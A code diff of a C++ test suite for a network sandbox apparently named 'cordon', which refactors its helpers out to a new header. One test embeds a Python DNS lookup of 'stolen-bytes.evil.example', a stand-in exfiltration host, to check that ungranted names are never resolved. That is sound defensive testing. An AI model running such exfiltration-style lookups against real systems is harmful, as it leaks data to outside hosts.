@@ -7,13 +7,9 @@
 
 #include <cerrno>
 #include <csignal>
-#include <filesystem>
-#include <fstream>
 #include <mutex>
-#include <nlohmann/json.hpp>
 
-#include "network/stage.h"
-#include "support/promise.h"
+#include "network/way_out.h"
 
 namespace cordon::test {
 namespace {
@@ -26,47 +22,10 @@ using testing::Not;
 
 constexpr std::uint16_t kPort = 8080;
 
-std::string rules(const std::vector<std::pair<std::string, std::string>>& all) {
-  std::string out = "network:\n";
-  for (const auto& [host, port] : all) out += "  - {host: '" + host + "', port: '" + port + "'}\n";
-  return out;
-}
-
 const std::string kGranted = rules({{"a.example", "8080"}});
 
-std::string program(const std::string& path, const std::vector<std::string>& args, const std::string& extra) {
-  return "entrypoint: " + path + "\n" + list("args", args) + extra;
-}
-
-/// Without a link on the way: in an ordinary user's own namespace nobody that it knows owns the system's.
-std::string real(const char* path) { return std::filesystem::canonical(path).string(); }
-std::string python_path() { return real("/usr/bin/python3"); }
-
-class Egress : public Promise {
+class Egress : public WayOut {
  protected:
-  /// Nobody approves here: in an ordinary user's own namespace the directories above belong to nobody that it knows.
-  Finished sandboxed(const std::string& yaml, const std::vector<std::string>& flags = {}) const {
-    std::vector<std::string> args{"run", "--allow-unapproved"};
-    args.insert(args.end(), flags.begin(), flags.end());
-    args.push_back(scene.manifest(yaml));
-    return scene.cordon(args).run();
-  }
-  /// A Python program of these lines, in the sandbox.
-  Finished python(const std::string& body, const std::string& extra, const std::vector<std::string>& flags = {}) const {
-    scene.tree().write("work/main.py",
-                       "import socket, sys, errno, urllib.request, http.client\n"
-                       "def said(name, act):\n"
-                       "  try: print(name, act())\n"
-                       "  except OSError as e: print(name, errno.errorcode.get(e.errno, type(e).__name__))\n" +
-                           body);
-    return sandboxed("entrypoint: main.py\ninterpreter: " + python_path() + "\n" + extra, flags);
-  }
-  json verdict_of(const Finished& finished) const {
-    const auto at = finished.out.find("{\"event\":\"verdict\"");
-    EXPECT_NE(at, std::string::npos) << finished;
-    return at == std::string::npos ? json() : json::parse(finished.out.substr(at));
-  }
-
   WebServer web4{kPublic4, kPort, "over four"};
   WebServer web6{kPublic6, kPort, "over six"};
 };
@@ -135,7 +94,7 @@ TEST_P(Egress, NoQuestionLeavesForANameThatIsNotGranted) {
   const std::string body =
       "said('secret', lambda: socket.gethostbyname('stolen-bytes.evil.example'))\n"
       "said('looked up', lambda: socket.gethostbyname('dns.example'))\n";
-  python(body, rules({{"dns.example", "8080"}}));
+  static_cast<void>(python(body, rules({{"dns.example", "8080"}})));
   EXPECT_THAT(names.asked(), IsEmpty()) << "a granted name is not resolved before a connection to it either";
   const Finished got = python(body + "print(urllib.request.urlopen('http://dns.example:8080/').read())\n",
                               rules({{"dns.example", "8080"}}));
@@ -241,21 +200,6 @@ TEST_P(Egress, ASecondSandboxDoesNotReachTheFirst) {
   EXPECT_THAT(got.out, Not(HasSubstr("closed"))) << got;
   running.signal(SIGTERM);
   static_cast<void>(running.wait());
-}
-
-/// The broker of the run that `cordon` is.
-pid_t broker_of(pid_t cordon) {
-  for (int i = 0; i < 200; ++i) {
-    for (const pid_t one : processes_with("cordon-broker")) {
-      std::ifstream stat("/proc/" + std::to_string(one) + "/stat");
-      std::string text;
-      std::getline(stat, text);
-      const auto after = text.rfind(')');
-      if (after != std::string::npos && std::stol(text.substr(after + 4)) == cordon) return one;
-    }
-    ::usleep(10'000);
-  }
-  return -1;
 }
 
 TEST_P(Egress, ABrokerThatIsKilledEndsTheRun) {
